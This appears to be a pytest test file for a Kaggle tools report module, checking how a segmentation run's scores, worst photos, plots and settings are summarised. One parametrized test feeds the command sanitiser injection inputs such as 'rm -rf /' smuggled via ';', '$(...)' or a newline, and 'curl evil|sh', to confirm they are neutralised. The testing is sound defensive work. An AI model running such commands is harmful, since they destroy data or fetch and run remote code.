import base64
import io
import re
import shlex
from pathlib import Path

import pandas as pd
import pytest
from finished_runs import Errors, draw_photos, write_run
from known_competitions import CARVANA
from PIL import Image
from ten_cars import ERRORS, means

from kaggle_tools.competitions.competition import Competition
from kaggle_tools.data.fingerprint import fingerprint_of, write_fingerprint
from kaggle_tools.data.listing import Photo
from kaggle_tools.errors import InputError
from kaggle_tools.report.parts.run import RunPart, _begun_with, run_part
from kaggle_tools.results import summary

FEW: dict[int, Errors] = {0: {"a_01": (3, 0), "b_01": (0, 6)}, 1: {"c_01": (10, 0), "d_01": (0, 0)}}


@pytest.fixture(scope="module")
def few(tmp_path_factory: pytest.TempPathFactory) -> RunPart:
    """Both folds of two, whose photos were moved; one was lost."""
    folder = tmp_path_factory.mktemp("few")
    draw_photos(folder / "moved", ["a_01", "b_01", "c_01"])
    return run_part(write_run(folder / "run", folder / "before", FEW), CARVANA, folder / "moved")


class TestScore:
    def test_the_score_of_a_run_is_the_mean_of_all_photos(self, part: RunPart, oof: pd.DataFrame) -> None:
        assert (part.name, part.photos, part.groups) == ("my run", 40, 10)
        assert part.score.score == pytest.approx(oof["score"].mean())

    def test_the_interval_of_a_run_is_that_of_its_summary(self, finished: Path, part: RunPart) -> None:
        assert part.score.interval == summary.summarise(finished, CARVANA).score.interval is not None

    def test_the_run_is_described_in_one_line(self, part: RunPart) -> None:
        assert part.line == "unet, width 8, 160x240, folds 0, 1, 2 of 4, at most 2 epochs, TTA hflip"

    def test_the_line_of_a_run_says_a_single_fold_and_full_size(self, tmp_path: Path) -> None:
        run = write_run(tmp_path / "run", tmp_path, {1: FEW[1]}, image_size=None, batch_size=1)
        assert run_part(run, CARVANA).line.startswith("unet, width 8, full, fold 1 of 2, ")

    def test_a_run_of_one_epoch_is_said_to_have_one_epoch(self, tmp_path: Path) -> None:
        run = write_run(tmp_path / "run", tmp_path, {1: FEW[1]}, epochs=1)
        assert ", at most 1 epoch, " in run_part(run, CARVANA).line

    def test_a_run_without_a_finished_fold_is_refused(self, tmp_path: Path) -> None:
        with pytest.raises(InputError, match="no finished fold in it"):
            run_part(write_run(tmp_path, tmp_path, {}), CARVANA)

    @pytest.mark.parametrize("name", ["oof.csv", "metrics.csv"])
    def test_a_run_with_a_table_without_rows_is_refused(self, tmp_path: Path, name: str) -> None:
        path = write_run(tmp_path, tmp_path, FEW) / "fold1" / name
        path.write_text(path.read_text().partition("\n")[0] + "\n")
        with pytest.raises(InputError, match=re.escape(f"fold1/{name}: damaged (no rows in it)")):
            run_part(tmp_path, CARVANA)

    def test_a_run_that_lacks_a_score_is_refused(self, tmp_path: Path) -> None:
        path = write_run(tmp_path, tmp_path, FEW) / "fold1" / "oof.csv"
        path.write_text(path.read_text().replace("d_01,1,1.0,", "d_01,1,,"))
        with pytest.raises(InputError, match=re.escape("fold1/oof.csv: damaged (values of score are missing)")):
            run_part(tmp_path, CARVANA)


class TestWhereItFails:
    def test_the_three_worst_cars_are_shown_by_their_worst_photos(self, part: RunPart, oof: pd.DataFrame) -> None:
        worst = means(oof, "group").head(3)
        assert [group.name for group in part.worst_groups] == list(worst.index)
        assert [group.mean for group in part.worst_groups] == pytest.approx(worst.tolist())
        photos = [oof.loc[oof["group"] == car, "image"].iloc[0] for car in worst.index]
        assert [group.worst_photo.stem for group in part.worst_groups] == photos

    def test_the_worst_photos_come_first_and_the_best_from_the_other_end(
        self, part: RunPart, oof: pd.DataFrame
    ) -> None:
        worst, best, _ = part.galleries
        ranked = oof["image"].tolist()
        assert (worst.title, [picture.stem for picture in worst.pictures]) == ("The 24 worst photos", ranked[:24])
        assert (best.title, [picture.stem for picture in best.pictures]) == ("The best", ranked[:-7:-1])

    def test_the_photos_drawn_at_random_are_always_the_same(
        self, finished: Path, part: RunPart, oof: pd.DataFrame
    ) -> None:
        stems = [picture.stem for picture in part.galleries[2].pictures]
        assert len(set(stems)) == 6
        assert set(stems) <= set(oof["image"].iloc[24:-6])
        assert [picture.stem for picture in run_part(finished, CARVANA).galleries[2].pictures] == stems

    def test_few_photos_are_not_shown_twice(self, few: RunPart) -> None:
        shown = {gallery.title: [picture.stem for picture in gallery.pictures] for gallery in few.galleries}
        assert shown == {"All 4 photos, the worst first": ["c_01", "b_01", "a_01", "d_01"]}

    def test_a_single_photo_is_not_called_several(self, tmp_path: Path) -> None:
        (gallery,) = run_part(write_run(tmp_path, tmp_path, {0: {"a_01": (3, 0)}}), CARVANA).galleries
        assert gallery.title == "The only photo"

    def test_a_picture_says_score_fold_and_wrong_pixels(self, part: RunPart, oof: pd.DataFrame) -> None:
        for picture, row in zip(part.galleries[0].pictures, oof.itertuples(), strict=False):
            missed, invented = ERRORS[row.fold][picture.stem]
            assert picture.caption == f"Dice {row.score:.5f}, fold {row.fold}"
            assert picture.errors == f"{20 * missed:,} false negative, {20 * invented:,} false positive pixels"

    def test_photos_that_have_moved_are_found_in_the_given_folder(self, few: RunPart) -> None:
        with Image.open(io.BytesIO(base64.b64decode(few.galleries[0].pictures[0].full.partition(",")[2]))) as image:
            assert image.size == (90, 60)

    def test_a_lost_photo_of_a_run_is_said_to_be_lost(self, few: RunPart) -> None:
        (lost,) = [picture for picture in few.galleries[0].pictures if not picture.full]
        assert lost.stem == "d_01"
        assert lost.errors.endswith("/moved/train/d_01.jpg: cannot be read (No such file or directory)")

    def test_a_photo_or_mask_that_changed_since_the_run_is_not_shown_as_what_was_scored(self, tmp_path: Path) -> None:
        data, stems = tmp_path / "data", ["a_01", "b_01", "c_01", "d_01"]
        draw_photos(data, stems)
        run = write_run(tmp_path / "run", data, FEW)
        photos = [
            Photo(stem, data / f"train/{stem}.jpg", (60, 90), data / f"train_masks/{stem}_mask.gif") for stem in stems
        ]
        write_fingerprint(run / "data.csv", fingerprint_of(photos))
        Image.new("RGB", (90, 60)).save(photos[0].path)
        Image.new("L", (90, 60)).save(data / "train_masks" / "c_01_mask.gif")
        shown = {picture.stem: picture for picture in run_part(run, CARVANA).galleries[0].pictures}
        assert shown["a_01"].errors == f"{photos[0].path}: is no longer what it was when the photo was masked"
        assert shown["c_01"].errors == f"{photos[2].mask}: is no longer what it was when the photo was masked"
        assert [stem for stem in stems if shown[stem].full] == ["b_01", "d_01"]


def test_a_run_of_a_competition_without_groups_has_no_table_or_plot_by_group(
    tmp_path: Path, tiles: Competition
) -> None:
    part = run_part(write_run(tmp_path, tmp_path, FEW), tiles)
    assert (part.groups, part.by_view, part.by_group, part.worst_groups) == (4, None, None, [])
    assert [plot.title for plot in part.score_plots] == ["IoU of the single photos"]
    assert [column.name for column in part.folds.columns][:4] == ["fold", "photos", "IoU", "Dice"]
    assert part.folds.rows[0][:2] == ["0", 2]


def test_the_plots_of_a_run_show_scores_thresholds_and_learning_curves(part: RunPart, oof: pd.DataFrame) -> None:
    assert [plot.title for plot in part.score_plots] == ["Dice of the single photos", "Dice by angle", "Dice by car"]
    assert f"the lowest is {means(oof, 'view').index[0]} with " in part.score_plots[1].alt
    assert part.probability_plots[0].alt == f"Mean Dice by threshold: highest at 0.5, with {part.score.score:.5f}."
    assert part.learning_plots[0].alt.endswith(
        ": fold 0 from 0.5 to 0.3, fold 1 from 1.5 to 1.3, fold 2 from 2.5 to 2.3."
    )


class TestHowItWasMade:
    def test_the_settings_of_a_run_are_shown_in_words(self, part: RunPart) -> None:
        shown = {"folds": "4", "image_size": "160x240", "model": "unet", "ema_decay": "none", "pretrained": "none"}
        assert dict(part.settings.rows).items() >= shown.items()

    def test_the_recorded_facts_of_a_run_are_shown(self, finished: Path, part: RunPart) -> None:
        known = {
            "begun": "not recorded",
            "begun with": "python -m kaggle_tools train --data data --out run",
            "training": "6 min (fold 0, 1, 2)",
            "hardware": "2 cores of Abacus (1 device used, precision 32-true)",
            "versions": "python 3.11.7",
            "code": "0123456789abcdef",
            "photos": f"{finished.parent}/data",
            "masks of new photos": "threshold 0.5",
        }
        assert part.facts.items() >= known.items()

    @pytest.mark.parametrize(
        ("recorded", "shown"),
        [
            ("-m kaggle_tools train --out 'a b'", "python -m kaggle_tools train --out 'a b'"),
            ("/home/me/code/train.py --out a", "python -m kaggle_tools train --out a"),
            ("train.py --out a; rm -rf /", "python -m kaggle_tools train --out 'a;' rm -rf /"),
            ("train.py --out $(rm -rf /)", "python -m kaggle_tools train --out '$(rm' -rf '/)'"),
            ("train.py --out a\nrm -rf /", "python -m kaggle_tools train --out a rm -rf /"),
            ("train.py --out 'x\x03\ncurl evil|sh\n'", "not recorded as one line"),
            ("train.py --out 'a\u202eb'", "not recorded as one line"),
            ("-c 'import os'", "not recorded as a training"),
            ("-m kaggle_tools.evil train", "not recorded as a training"),
            ("evil.py train.py", "not recorded as a training"),
            ("train.py --out 'a", "not recorded as a training"),
            ("", "not recorded as a training"),
        ],
    )
    def test_a_recorded_command_that_is_pasted_runs_nothing_but_a_training(self, recorded: str, shown: str) -> None:
        assert _begun_with(recorded) == shown

    def test_the_command_that_repeats_a_run_can_be_pasted(self, finished: Path, part: RunPart) -> None:
        assert shlex.split(part.facts["to repeat all of it"]) == [
            *("python", "-m", "kaggle_tools", "train", "--data", f"{finished.parent}/data", "--out", "NEW"),
            *("--config", f"{finished}/config.json", "--competition", CARVANA.slug),
            *("--fold", "0", "--fold", "1", "--fold", "2"),
        ]


def test_a_loss_that_no_axis_can_show_is_damage(tmp_path: Path) -> None:
    run = write_run(tmp_path, tmp_path, FEW)
    path = run / "fold0" / "metrics.csv"
    path.write_text(path.read_text().replace("0.4,0.9,", "1e308,0.9,"))
    with pytest.raises(InputError, match=r"metrics\.csv: damaged \(values of val_loss that are not from"):
        run_part(run, CARVANA)
